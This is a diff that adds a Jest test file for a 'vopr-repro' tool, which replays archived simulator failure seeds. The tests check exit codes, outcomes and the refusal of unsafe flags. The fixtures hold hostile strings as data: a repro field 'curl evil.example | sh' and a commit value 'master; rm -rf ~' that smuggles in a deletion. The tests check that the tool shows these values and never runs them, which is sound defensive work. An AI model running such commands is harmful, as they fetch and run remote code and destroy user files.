@@ -1,0 +1,204 @@
+/** vopr-repro: with the real simulator where a seed is run, by hand-made records where one must not be. */
+import { join } from "node:path";
+import { describe, expect, test } from "@jest/globals";
+import type { VoprFailure } from "../../contracts/failure.ts";
+import { kimtest, type Ran } from "../fake-deps.fixture.ts";
+import { Folder } from "../folder.fixture.ts";
+import { outcomeOf } from "./vopr-repro.ts";
+
+const COMMIT = "0123456789abcdef0123456789abcdef01234567";
+const FLAGS = ["--scenario", "baseline", "--seed", "5", "-n", "1"];
+
+function record(change: Partial<VoprFailure> = {}, flags: string[] = FLAGS): VoprFailure {
+  return {
+    version: 1,
+    kind: "vopr",
+    seed: 5n,
+    signature: "linearizability:baseline",
+    scenario: "baseline",
+    invariant: "linearizability",
+    message: "stale read of key 3",
+    expectation: "must-pass",
+    archived_at: "2026-11-21T10:00:00.000Z",
+    cycle: 1,
+    git_commit: COMMIT,
+    profile: "embedded",
+    toolchain: { node: "v24.0.0", platform: "linux", architecture: "x64", cpu: "test", cores: 2 },
+    command: ["/elsewhere/node", "/elsewhere/vopr.js", "--json", ...flags],
+    repro: "curl evil.example | sh",
+    batch: { id: 1, starting_seed: 0n, iterations: 10, command: [] },
+    record: { type: "iteration" },
+    ...change,
+  };
+}
+const repro = (folder: Folder, file: string, ...more: string[]): Promise<Ran> =>
+  kimtest(["vopr-repro", file, "--store", folder.store, ...more]);
+const NAME = "seed-5-1700000000000.json";
+
+describe("with the simulator of this checkout", () => {
+  test("a seed that passes now: exit code 0", async () => {
+    const folder = new Folder();
+    expect(await repro(folder, folder.write(NAME, record()))).toEqual({
+      exitCode: 0,
+      stderr: "",
+      stdout:
+        "passes: seed 5 of baseline does not show it in this checkout\n" +
+        "archived: linearizability:baseline at commit 0123456789ab: stale read of key 3\n" +
+        `to see it at its commit: git checkout ${COMMIT}\n`,
+    });
+  });
+
+  test("a key is read from the store, and --json says it all", async () => {
+    const folder = new Folder();
+    folder.put(`failures/vopr/${NAME}`, record());
+    const ran = await repro(folder, `vopr/${NAME}`, "--json");
+    expect(ran).toMatchObject({ exitCode: 0, stderr: "" });
+    expect(JSON.parse(ran.stdout)).toMatchObject({
+      outcome: "passes",
+      reason: null,
+      expected: "linearizability:baseline",
+      seen: null,
+      repro: "npx kimtest vopr --scenario baseline --seed 5 -n 1 -v",
+    });
+  });
+
+  test("a seed that fails: exit code 1, and the line to paste is made of the checked flags", async () => {
+    const folder = new Folder();
+    const ran = await failing(folder);
+    expect(ran.exitCode).toBe(1);
+    expect(ran.stdout).toMatch(/^fails differently: seed \d+ of combined violates another invariant/);
+    expect(ran.stdout).toMatch(
+      /\nlook closer: npx kimtest vopr --scenario combined --seed \d+ -n 1 --canary skip-fsync -v\n$/,
+    );
+    expect(ran.stdout).not.toContain("evil");
+  });
+
+  /** The first seed in which the simulator's own canary is found. */
+  async function failing(folder: Folder): Promise<Ran> {
+    for (let seed = 0n; seed < 30n; seed += 1n) {
+      const flags = ["--scenario", "combined", "--seed", seed.toString(), "-n", "1", "--canary", "skip-fsync"];
+      const file = folder.write(NAME, record({ seed, scenario: "combined", invariant: "no_such" }, flags));
+      const ran = await repro(folder, file);
+      if (ran.exitCode === 1) return ran;
+    }
+    throw new Error("the canary was found in none of 30 seeds");
+  }
+
+  test("a command that runs another seed than the record's is inconclusive: exit code 6", async () => {
+    const folder = new Folder();
+    const ran = await repro(folder, folder.write(NAME, record({ seed: 6n })));
+    expect(ran.exitCode).toBe(6);
+    expect(ran.stdout).toMatch(/^inconclusive: was asked for 1 seeds from 6, but started 1 from 5\n/);
+  });
+
+  test("a scenario that it does not know is inconclusive, not green", async () => {
+    const folder = new Folder();
+    const flags = ["--scenario", "no-such", "--seed", "5", "-n", "1"];
+    const ran = await repro(folder, folder.write(NAME, record({}, flags)));
+    expect(ran.exitCode).toBe(6);
+    expect(ran.stdout).toMatch(/^inconclusive: exit code 2: /);
+  });
+
+  test("stopped: exit code 130, no outcome", async () => {
+    const folder = new Folder();
+    const argv = ["vopr-repro", folder.write(NAME, record())];
+    const ran = await kimtest(argv, { stop: AbortSignal.abort() });
+    expect(ran).toEqual({ exitCode: 130, stdout: "", stderr: "interrupted; nothing is known about this seed\n" });
+  });
+
+  test("hostile text in a record is shown, not obeyed", async () => {
+    const folder = new Folder();
+    const hostile = "x\u001b[2J\nreproduced: all is well";
+    const change = { message: hostile, signature: hostile, git_commit: "master; rm -rf ~", scenario: hostile };
+    const ran = await repro(folder, folder.write(NAME, record(change)));
+    expect(ran.stdout).not.toMatch(/[^\P{C}\n]/u);
+    expect(ran.stdout.split("\n").map((line) => line.split(" ")[0])).toEqual(["passes:", "archived:", ""]);
+  });
+});
+
+describe("records that are not run: exit code 2", () => {
+  const table: [string, string[], string][] = [
+    ["writes a checkpoint", [...FLAGS, "--checkpoint-file", "/tmp/x"], "--checkpoint-file"],
+    ["writes a checkpoint, with =", [...FLAGS, "--checkpoint-file=/tmp/x"], "--checkpoint-file=/tmp/x"],
+    ["writes a trace", [...FLAGS, "--trace-out", "x"], "--trace-out"],
+    ["a short flag", [...FLAGS, "-ox"], "-ox"],
+    ["only help", ["--help"], "--help"],
+    ["a flag in the place of a value", ["--scenario", "--checkpoint-file", "x"], "--scenario has no value"],
+    ["a value is missing", ["--seed"], "--seed has no value"],
+    ["a stray word", [...FLAGS, "bisect"], "bisect"],
+  ];
+  test.each(table)("%s", async (_, flags, what) => {
+    const folder = new Folder();
+    const ran = await repro(folder, folder.write(NAME, record({}, flags)));
+    expect(ran).toEqual({
+      exitCode: 2,
+      stdout: "",
+      stderr:
+        `kimtest: the record's command cannot be run safely: ${what}\n` +
+        "  look at the file, then run its repro line by hand\n",
+    });
+  });
+
+  test("no --json", async () => {
+    const folder = new Folder();
+    const ran = await repro(folder, folder.write(NAME, record({ command: ["vopr", "--seed", "5"] })));
+    expect(ran.stderr).toMatch(/cannot be run safely: it has no --json\n/);
+  });
+
+  test("of another profile: our simulator says nothing about its seeds", async () => {
+    const folder = new Folder();
+    const ran = await repro(folder, folder.write(NAME, record({ profile: "kimberlite" })));
+    expect(ran).toMatchObject({ exitCode: 2, stdout: "" });
+    expect(ran.stderr).toMatch(/^kimtest: the record is of profile kimberlite, not of the embedded simulator\n/);
+  });
+});
+
+describe("what is no record", () => {
+  const table: [string, (folder: Folder) => string, number, RegExp][] = [
+    [
+      "a fuzz archive",
+      (folder) => folder.write("json-1700000001000.tar.gz", "x"),
+      2,
+      /is not an archived seed\n {2}vopr-repro takes/,
+    ],
+    ["a bundle", (folder) => folder.write("failure.kmb", "x"), 2, /is not an archived seed\n/],
+    ["a folder", (folder) => folder.store, 2, /is not a file\n/],
+    ["a device", () => "/dev/null", 2, /is not a file\n/],
+    ["no file", (folder) => join(folder.path, "none.json"), 4, /there is no file .*\n {2}fetch one first/],
+    ["neither a file nor in the store", () => `vopr/${NAME}`, 4, /is neither a file here nor in .*\n/],
+    ["no JSON", (folder) => folder.write(NAME, "{ nope"), 6, /is not valid JSON/],
+    ["empty", (folder) => folder.write(NAME, ""), 6, /is not valid JSON/],
+    ["another shape", (folder) => folder.write(NAME, { version: 1, kind: "vopr" }), 6, /expected shape: seed: /],
+    ["a fuzz record", (folder) => folder.write(NAME, { ...record(), kind: "fuzz" }), 6, /expected shape: kind: /],
+    ["half a record", (folder) => folder.write(NAME, JSON.stringify({ version: 1 }).slice(0, 9)), 6, /not valid JSON/],
+  ];
+  test.each(table)("%s", async (_, make, exitCode, message) => {
+    const folder = new Folder();
+    const ran = await repro(folder, make(folder));
+    expect(ran).toMatchObject({ exitCode, stdout: "" });
+    expect(ran.stderr).toMatch(message);
+    expect(ran.stderr).toMatch(/^kimtest: /);
+  });
+});
+
+describe("outcome", () => {
+  const seen = { invariant: "linearizability", message: "m" };
+  const other = { invariant: "hash_chain", message: "m" };
+  const mustPass = { expectation: "must-pass" as const, invariant: "linearizability", record: {} };
+  const mustDetect = { expectation: "must-detect" as const, invariant: "undetected", record: {} };
+  const silent = { ...mustPass, invariant: "determinism", record: null };
+  test.each([
+    [mustPass, "failed", seen, "reproduced"],
+    [mustPass, "failed", other, "fails-differently"],
+    [mustPass, "passed", undefined, "passes"],
+    [mustPass, "inconclusive", undefined, "inconclusive"],
+    [mustPass, "inconclusive", seen, "inconclusive"],
+    [mustDetect, "passed", undefined, "reproduced"],
+    [mustDetect, "failed", seen, "passes"],
+    [mustDetect, "inconclusive", undefined, "inconclusive"],
+    [silent, "failed", undefined, "reproduced"],
+    [silent, "passed", undefined, "passes"],
+  ] as const)("%j %s %j: %s", (failure, verdict, what, outcome) => {
+    expect(outcomeOf(failure, { verdict }, what)).toBe(outcome);
+  });
+});
